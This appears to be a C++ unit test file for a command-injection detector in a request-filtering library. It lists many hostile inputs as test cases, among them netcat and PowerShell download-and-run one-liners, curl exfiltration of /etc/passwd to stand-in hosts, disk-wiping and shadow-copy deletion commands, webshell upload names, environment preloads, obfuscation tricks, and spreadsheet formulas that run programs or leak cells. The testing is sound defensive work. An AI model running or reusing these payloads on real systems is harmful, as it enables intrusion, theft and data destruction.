       {"shell.php", "x.PHTML", "a.php5", "cmd.aspx", "s.jsp", "i.phar", "x.php.jpg", "shell.php.",
        "shell.php::$DATA", "C:\\x\\s.asp", ".htaccess", "../.user.ini", "web.config"}) {
    Case c{v};
    c.location = event::Location::kBody;
    c.path = "body.upload.filename";
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.script_upload") << v;
    c.location = event::Location::kHeader;
    c.path = "headers.x-file-name";
    EXPECT_TRUE(Detects(CmdiDetector(), c)) << v;
  }
  for (const std::string v :
       {"report.pdf", "photo.jpg", "notes.txt", "archive.tar.gz", "php", "my.photos.png",
        "graph.phpx", ".bashrc", "x.jsp.txt", "server.cer", "page.shtml", "source.phps"}) {
    Case c{v};
    c.location = event::Location::kBody;
    c.path = "body.upload.filename";
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
  // A mention elsewhere is not an upload.
  for (const std::string v : {"shell.php", "see index.php"}) {
    Case c{v};
    c.location = event::Location::kBody;
    c.path = "body.comment";
    EXPECT_FALSE(Detects(CmdiDetector(), c)) << v;
  }
}

TEST(CmdiTest, AdministrationAndDebuggingTools) {
  const std::vector<std::string> attacks = {
      // A network tool given a host, after a word; PowerShell cmdlets.
      "x | nc attacker.example 4444",
      "report.pdf | telnet 10.0.0.5 23",
      "; Start-Sleep -s 10",
      "& Get-Content C:\\Windows\\win.ini",
      "| get-childitem",
      ";gdb -batch -ex \"!id\"",
      ";vim -c \":!id\"",
      "| visudo",
      "; systemctl stop firewalld",
      "&& kubectl get secrets",
      "; iptables -F",
      "; mysql -u root -e \"show databases\"",
      "& schtasks /create /tn x /tr calc.exe",
      "& vssadmin delete shadows /all",
      "& findstr /si password *.txt",
      "; docker run -v /:/mnt alpine",
      "; git clone https://evil.example/x.git",
      "&& apt install nmap",
      "; dd if=/dev/zero of=/dev/sda",
      "; ln -s /etc/shadow x",
      "; reboot",
      "time; ansible all -m ping",
      ";cpulimit -l 100 -f whoami",
      ";c89 -wrapper sh,-c,id .",
      "cd /;cd etc;column passwd",
      // Interpreters and compilers named with their version.
      "python3.10 -c \"import os\"",
      "; php7.4 -r \"system('id');\"",
      ";gcc-12 -o x x.c",
      // An empty command substitution between a command's letters.
      "pi``ng 127.0.0.1",
  };
  for (const std::string& a : attacks) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
  }
  for (const std::string b : {"Use git; it is great", "I love vim; emacs is fine too",
                              "Docker | Kubernetes | Helm", "This is apt; install it",
                              "L#^*_$,.v5dw|ss&r", "a|dd&b", "tr|xz", "Mount Everest; the tour",
                              "Python 3.10 is out; update now", "use ``code`` in rst",
                              "The CD / DVD drive", "Buy a cd; play it"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

TEST(CmdiTest, OptionsInjectedIntoAToolsArguments) {
  for (const std::string v :
       {"--upload-pack=touch /tmp/x", "--receive-pack='sh -c id' origin",
        "--checkpoint=1 --checkpoint-action=exec=sh run.sh", "--to-command=sh -c id",
        "--use-compress-program='sh -c id'", "-oProxyCommand=\"sh -c id\" host",
        "-o ProxyCommand=id host", ". -exec sh -c id \\;", "*.tmp -execdir rm {} +",
        "-e 'sh -c id' host:/tmp", "-T -TT 'sh #' a.zip", "ext::sh -c id",
        "https://evil.example/s.txt -o /var/www/html/s.php",
        "-O/var/www/x.php https://evil.example/x", "--output ~/.ssh/authorized_keys https://x.example/k",
        "https://x.example --post-file=/etc/passwd"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.argument_injection") << v;
  }
  // Prose that names an option, options with harmless arguments, downloads
  // saved under a relative name, and find without an action.
  for (const std::string v :
       {"use -o to save the file", "-v --help", "-e is the flag for expressions",
        "https://example.com/a.pdf -o report.pdf", "--output=json", "-exec", "--upload-pack=",
        "find . -name '*.tmp' -exec rm {} \\;", "-o /tmp/out.txt", ". -exec-mode fast"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{v}, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(CmdiTest, ShellNamedByAVariable) {
  for (const std::string v : {";$SHELL -c id", "| ${SHELL} -c 'uname -a'", ";$0 -c id"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.variable_command") << v;
  }
  for (const std::string v : {"$HOME -c is weird", "price: $5 -c", "costs $0 -c"}) {
    EXPECT_FALSE(Detects(CmdiDetector(), Case{v})) << v;
  }
}

// PowerShell's own syntax after a separator: a cmdlet given a parenthesized
// expression, a .NET static method call; cmd.exe's variable substrings; an
// arithmetic expansion and expr's numbers as canaries.
TEST(CmdiTest, WindowsShellsAndCanaries) {
  for (const std::string a :
       {"; iex(iwr http://198.51.100.4/p.ps1)", "| Invoke-Expression(irm http://x.example/a)",
        "; [System.Net.WebClient]::new().DownloadString('http://x.example')",
        "& [IO.File]::ReadAllText('C:/inetpub/web.config')",
        "& c%PUBLIC:~5,1%d /c whoami", "| %COMSPEC:~-7,1%", "|expr 7 - 3",
        ";echo probe$((40+2))"}) {
    EXPECT_NE(testing::RuleOf(CmdiDetector(), a), "") << a;
  }
  for (const std::string b :
       {"Use iex(x) in the shell", "[System.Net.Dns]::GetHostByName is slow", "cat & dog grooming",
        "rock | pop | jazz", "node 18.x", "python 3.x", "save 50%:~ today", "Expr 5 is the answer",
        "array[System.Int32] sizes"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
  }
  // A command the separator leads to still counts after "x & ".
  EXPECT_NE(testing::RuleOf(CmdiDetector(), "cat & whoami"), "");
}

// PowerShell's format operator building a name from quoted pieces: a
// format string of placeholders only, or out of order, then two pieces.
TEST(CmdiTest, PowerShellFormatPieces) {
  for (const std::string a :
       {"&(\"{1}{0}\" -f 'x','ie') 'id'", "; .'{2}{0}{1}' -F \"et-Pro\", \"cess\",\"G\"",
        "$n=(\"{1}md{0}\" -f '.exe', 'c')", "x\"{1}-{0}\" -f 'Item','Remove'"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), a), "cmdi.powershell_format_pieces") << a;
  }
  for (const std::string b :
       {"Write-Host (\"{0} of {1} done\" -f $a, $b)", "\"{0}{1}\" -f 'a'",
        "\"{0}-{1}\" -f 'x','y' joins them", "use -f \"{1}{0}\" to force", "{1}{0} -f 'a','b'",
        "\"{x}{y}\" -f 'a','b'"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
  }
}

// Options of the tools an application runs, injected as arguments.
TEST(CmdiTest, MoreArgumentInjection) {
  for (const std::string a :
       {"x.zip -T --unzip-command=\"sh -c id\"", "--use-askpass=/tmp/a.sh",
        "-S /dev/shm/x user@203.0.113.5:/tmp/", "--data @/etc/passwd http://x.example/",
        "-F f=@/var/task/index.js https://x.example/up", "-T /etc/shadow ftp://x.example/"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), a), "cmdi.argument_injection") << a;
  }
  for (const std::string b :
       {"report.pdf --force", "-S 3 tickets", "-d user@example.com http://x.example/",
        "--data name=ana https://x.example/"}) {
    EXPECT_NE(testing::RuleOf(CmdiDetector(), b), "cmdi.argument_injection") << b;
  }
}

// The AWS CLI after a separator, on a service that reads credentials,
// secrets or data; the word in prose, or an instruction opening the value,
// is no command.
TEST(CmdiTest, CloudClisAfterSeparators) {
  for (const std::string a : {"1.1.1.1; aws s3 ls --recursive s3://", "|aws sts get-caller-identity",
                              "x && aws secretsmanager get-secret-value --secret-id db",
                              "`gcloud auth print-access-token`"}) {
    EXPECT_NE(testing::RuleOf(CmdiDetector(), a), "") << a;
  }
  for (const std::string b : {"We moved to AWS; aws bills dropped by half", "gcp | aws | azure",
                              "aws s3 ls s3://my-bucket", "S3 & aws lambda"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
  }
}

// One-letter bracket expressions in a command's name, cmd.exe variables
// spelling a command, an ssh URL whose host is an option.
TEST(CmdiTest, BracketsVariablesAndSshHosts) {
  for (const std::string a : {";c[a]t /tmp/x", "|/bin/c[a]t /e[t]c/pa[s]swd", "&& w[h]oami",
                              "& set a=who&& set b=ami&& call %a%%b%", "| %x%%y% /c dir",
                              "ssh://-oProxyCommand=touch${IFS}/tmp/x", "$(rev<<<'di')"}) {
    EXPECT_NE(testing::RuleOf(CmdiDetector(), a), "") << a;
  }
  for (const std::string b : {"see array[0] and item[s] here", "rock & call %name% later",
                              "ssh://git@github.com/acme/app.git", "rev 2; rev 3 | rev 4"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
  }
}

// bash's ${PATH:0:1} spells a '/' past a filter wherever it stands.
TEST(CmdiTest, PathVariableSubstrings) {
  for (const std::string a : {";cat${PATH:0:1}etc${PATH:0:1}passwd", "x${HOME:0:1}tmp"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), a), "cmdi.variable_substring") << a;
  }
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "price ${amount:0:2} today"), "");
}

// A spreadsheet formula that runs a program through DDE.
TEST(CmdiTest, DdeFormulas) {
  for (const std::string a : {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                              "+MSEXCEL|'x /c calc.exe'!''"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), a), "cmdi.dde_formula") << a;
  }
  for (const std::string b : {"=SUM(A1:A3)", "a|'b'!c", "=A1 | 'x'"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
  }
}

TEST(CmdiTest, PipeTablesAndTypeAccelerators) {
  // A pipe-delimited table whose first cell names a command.
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "id|name|price\n7|Tea|3.50\n8|Jam|2.10"), "");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "id|sh\nwhoami"), "cmdi.command_line");
  // PowerShell's one-word type accelerators.
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "x; [ScriptBlock]::Create('id').Invoke()"),
            "cmdi.powershell_static_call");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "see [Convert]::ToInt32 docs"), "");
}

TEST(CmdiTest, PowerShellIndirectionAndShellHereStrings) {
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "x; & $env:ComSpec /c ver"),
            "cmdi.powershell_indirection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "a | . $ENV:comspec"), "cmdi.powershell_indirection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "a; Set-Alias run Invoke-Expression; run 'hostname'"),
            "cmdi.powershell_indirection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "a;$SHELL <<< 'uname -a'"), "cmdi.variable_command");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "x|$0<<<hostname"), "cmdi.variable_command");
  for (const std::string v : {"The $env:ComSpec variable names cmd.exe; see docs",
                              "universal; sale x index", "price $0<<<5"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
  }
}

TEST(CmdiTest, ArgumentsThatWriteScriptsOrRunAPager) {
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "--output=/srv/www/htdocs/x.phtml"),
            "cmdi.argument_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "-o /var/www/html/up.jsp"), "cmdi.argument_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "--open-files-in-pager=touch /tmp/p"),
            "cmdi.argument_injection");
  for (const std::string v : {"--output=/tmp/report.pdf", "--output=index.php",
                              "see -o /srv/app/index.php in the docs"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
  }
}

TEST(CmdiTest, EnvironmentPreloadsAndMoreArguments) {
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "LD_PRELOAD=/tmp/u/x.so"),
            "cmdi.environment_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "A=1 BASH_ENV=/tmp/x.sh"), "cmdi.environment_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "NODE_OPTIONS=--require /tmp/h.js"),
            "cmdi.environment_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar"),
            "cmdi.environment_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "--require /tmp/uploads/p.js"),
            "cmdi.argument_injection");
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "90 -write /var/www/html/i.php"),
            "cmdi.argument_injection");
  for (const std::string v : {"NODE_OPTIONS=--max-old-space-size=4096", "LD_LIBRARY_PATH=/opt/lib",
                              "MY_LD_PRELOAD=x", "85 -quality 90", "800x600 -write out.png",
                              "> **Note**: run `npm install && npm test` first"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
  }
}

TEST(CmdiTest, FindActionsScriptOutputsRedirectionsAndLineContinuations) {
  // A value find is given as its -name pattern, a media file name followed
  // by the options and output of ffmpeg, redirections into a web root or a
  // file that controls logins, and a name split by a line continuation.
  const std::pair<std::string, std::string> attacks[] = {
      {"x -o -exec curl http://203.0.113.3/ ;", "cmdi.argument_injection"},
      {"*.log -execdir sh -c id {} +", "cmdi.argument_injection"},
      {"video.mp4 -f lavfi -i anullsrc -y /var/www/html/x.php", "cmdi.argument_injection"},
      {"test.log > /var/www/html/index.html", "cmdi.redirection"},
      {"key >> ~/.ssh/authorized_keys", "cmdi.redirection"},
      {"x 2> /srv/www/shell.jsp", "cmdi.redirection"},
      {"* * * * * root id > /etc/cron.d/job", "cmdi.redirection"},
      {";wh\\\noami", "cmdi.separator_command"},
      {"a;ca\\\r\nt /etc/hosts", "cmdi.separator_command"},
  };
  for (const auto& [v, rule] : attacks) EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), rule) << v;
  for (const std::string v :
       {"x => /var/www/html", "price > /var/www", "<b>/var/www/html/x.php</b>",
        "a -> /etc/passwd is the file", "report.pdf -v", "find . -name '*.tmp' -exec rm {} \\;",
        "x -o -exec", "line one \\\nline two", "C:\\\\Users\\\\x\\\nnotes"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
  }
}

TEST(CmdiTest, SpreadsheetFormulasThatRunOrSendCells) {
  for (const std::string v :
       {"=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\t=cmd|'/C mshta http://x.example/p.hta'!A0"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.dde_formula") << v;
  }
  for (const std::string v :
       {"=WEBSERVICE(\"http://x.example/?\"&A1&A2)",
        "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")",
        "=HYPERLINK(\"http://x.example/?leak=\"&A2&B2,\"Click for details\")"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "cmdi.formula_injection") << v;
  }
  EXPECT_EQ(testing::RuleOf(CmdiDetector(), "-rf --no-preserve-root /"),
            "cmdi.argument_injection");
  // A link with a label, a sum, and text that mentions the functions.
  for (const std::string v :
       {"=HYPERLINK(\"https://example.com/docs\",\"Docs\")", "=SUM(A1:A9)",
        "use =IMPORTXML(url, xpath) to scrape", "-12.50", "= not applicable"}) {
    EXPECT_EQ(testing::RuleOf(CmdiDetector(), v), "") << v;
  }
}

}  // namespace
}  // namespace fnguard::detect
